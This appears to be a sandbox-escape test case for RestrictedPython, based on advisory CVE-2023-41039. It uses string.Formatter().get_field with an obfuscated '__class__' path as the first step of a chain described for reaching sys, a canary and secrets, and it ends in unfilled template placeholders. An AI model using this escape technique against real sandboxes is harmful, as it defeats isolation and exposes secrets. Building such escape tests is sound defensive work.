"""string.Formatter().get_field walks attribute paths without any guard.

Source: RestrictedPython advisory CVE-2023-41039: string.Formatter and its
get_field/vformat methods were the second way in besides str.format.
Tries: get the list of loaded classes from a field path, pick the one whose
initialiser's globals hold sys, then claim the canary and the secrets.
"""

# escape-test: {"stage": "gate", "kind": ["raised"]}

import string


def rp_string_formatter() -> dict:
    formatter = string.Formatter()
    path = "0." + "_" * 2 + "class" + "_" * 2
    found, unused = formatter.get_field(path, [()], {})
    return {"found": str(found)}


{{CLAIM}}


{{CLAIM_NAMESPACE}}
